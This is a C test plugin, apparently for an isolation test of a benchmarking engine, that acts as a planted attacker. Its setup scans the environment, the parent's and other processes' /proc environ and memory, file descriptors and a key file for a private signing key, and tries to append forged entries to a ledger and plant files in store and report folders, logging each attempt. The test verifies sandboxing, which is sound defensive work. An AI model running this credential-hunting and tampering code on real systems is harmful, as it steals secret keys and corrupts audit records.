/* A planted C plugin attacker for tests/e2e/isolation.sh: its setup hunts for the signing key
 * (environment, the parent's /proc environ, mem and fd, every process it can see, the key file
 * and its folder) and tries to append to the ledger and to write into the store and the reports
 * folder; it writes one line per attempt to $ATTACK_LOOT/plugin.txt. Its step is y = x (the
 * correctness gate excludes it; that is not what it is for). */
#include <prereg/arm_abi.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static FILE *g_loot;
static char g_key[4096], g_store[4096], g_reports[4096];

/* $ATTACK_LOOT/plugin.conf: three lines, the key file, the store, the reports folder (a file, as
 * an environment variable would put the key's path into every environment block). */
static void read_config(const char *loot) {
  char path[4096];
  snprintf(path, sizeof path, "%s/plugin.conf", loot);
  FILE *f = fopen(path, "r");
  if (!f) return;
  char *dst[3] = {g_key, g_store, g_reports};
  for (int i = 0; i < 3 && fgets(dst[i], 4096, f); ++i)
    dst[i][strcspn(dst[i], "\n")] = 0;
  fclose(f);
}

/* Each line also goes to stderr, which the test keeps: the loot folder is under a scratch
 * folder, whose writes vanish with the measuring process (docs/engine.md, "Scratch"). */
static void note(const char *what, const char *path, int ok, const char *detail) {
  fprintf(g_loot, "%s %s: %s %s\n", what, path, ok ? "GOT" : "refused", detail);
  fprintf(stderr, "PREREG-TEST-LOOT plugin.txt %s %s: %s %s\n", what, path, ok ? "GOT" : "refused",
          detail);
}

static void read_path(const char *what, const char *path) {
  char buf[8192];
  int fd = open(path, O_RDONLY);
  if (fd < 0) { note(what, path, 0, strerror(errno)); return; }
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n < 0) { note(what, path, 0, strerror(errno)); return; }
  buf[n] = 0;
  int key = memmem(buf, (size_t)n, "PRIVATE KEY", 11) != NULL ||
            (g_key[0] && memmem(buf, (size_t)n, g_key, strlen(g_key)) != NULL);
  char detail[64];
  snprintf(detail, sizeof detail, "%zd bytes%s", n, key ? " KEY-MATERIAL" : "");
  note(what, path, n > 0, detail);
}

static void read_mem(pid_t pid) {
  char maps[64], mem[64], line[512];
  snprintf(maps, sizeof maps, "/proc/%d/maps", (int)pid);
  snprintf(mem, sizeof mem, "/proc/%d/mem", (int)pid);
  FILE *m = fopen(maps, "r");
  if (!m) { note("mem", mem, 0, strerror(errno)); return; }
  unsigned long lo = 0, hi = 0;
  int got = fgets(line, sizeof line, m) != NULL && sscanf(line, "%lx-%lx", &lo, &hi) == 2;
  fclose(m);
  int fd = open(mem, O_RDONLY);
  if (fd < 0 || !got) { note("mem", mem, 0, fd < 0 ? strerror(errno) : "no maps"); if (fd >= 0) close(fd); return; }
  char buf[4096];
  ssize_t n = pread(fd, buf, sizeof buf, (off_t)lo);
  close(fd);
  note("mem", mem, n > 0, n > 0 ? "read parent memory" : strerror(errno));
}

static void try_write(const char *dir, const char *name) {
  char path[4096];
  snprintf(path, sizeof path, "%s/%s", dir, name);
  int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
  if (fd < 0) { note("write", path, 0, strerror(errno)); return; }
  ssize_t n = write(fd, "forged\n", 7);
  close(fd);
  note("write", path, n == 7, n == 7 ? "written" : strerror(errno));
}

static void hunt(void) {
  const char *loot = getenv("ATTACK_LOOT");
  char path[4096];
  read_config(loot ? loot : "/tmp");
  snprintf(path, sizeof path, "%s/plugin.txt", loot ? loot : "/tmp");
  g_loot = fopen(path, "a");
  if (!g_loot) return;
  const char *env_key = getenv("PREREG_KEY");
  note("env", "PREREG_KEY", env_key != NULL, env_key ? env_key : "unset");
  pid_t ppid = getppid();
  snprintf(path, sizeof path, "/proc/%d/environ", (int)ppid);
  read_path("parent-environ", path);
  read_mem(ppid);
  char target[256];
  snprintf(path, sizeof path, "/proc/%d/fd/0", (int)ppid);
  ssize_t got = readlink(path, target, sizeof target - 1);
  note("parent-fd", path, got > 0, got > 0 ? "followed" : strerror(errno));
  DIR *d = opendir("/proc");
  for (struct dirent *e; d && (e = readdir(d));) {
    if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == (int)getpid()) continue;
    snprintf(path, sizeof path, "/proc/%s/environ", e->d_name);
    read_path("environ", path);
    read_mem((pid_t)atoi(e->d_name));
  }
  if (d) closedir(d);
  if (g_key[0]) read_path("key", g_key);
  for (int fd = 3; fd < 64; ++fd) {
    char link[64], target[256];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, target, sizeof target - 1);
    if (n > 0) { target[n] = 0; note("fd", link, 1, target); }
  }
  if (g_store[0]) { try_write(g_store, "ledger.jsonl"); try_write(g_store, "planted"); }
  if (g_reports[0]) try_write(g_reports, "planted");
  fclose(g_loot);
}

static int setup(const prereg_cell *cell, void **state, char *error, size_t error_size) {
  (void)error;
  (void)error_size;
  hunt();
  *state = (void *)cell;
  return 0;
}

static int step(void *state, void *stream, char *error, size_t error_size) {
  (void)stream;
  (void)error;
  (void)error_size;
  const prereg_cell *c = state;
  const float *x = NULL;
  float *y = NULL;
  for (size_t i = 0; i < c->tensor_count; ++i) {
    if (strcmp(c->tensor_names[i], "x") == 0) x = c->tensors[i].data;
    if (strcmp(c->tensor_names[i], "y") == 0) y = c->tensors[i].data;
  }
  memcpy(y, x, (size_t)(c->rows * c->cols) * sizeof(float));
  return 0;
}

static const prereg_arm arms[] = {
    {"hunter", "layernorm", "cpu", "fp32", "fwd", "a planted attacker", setup, step, NULL},
};
static const prereg_arm_table table = {PREREG_ARM_ABI_VERSION, 1, arms};
const prereg_arm_table *prereg_arms(void) { return &table; }
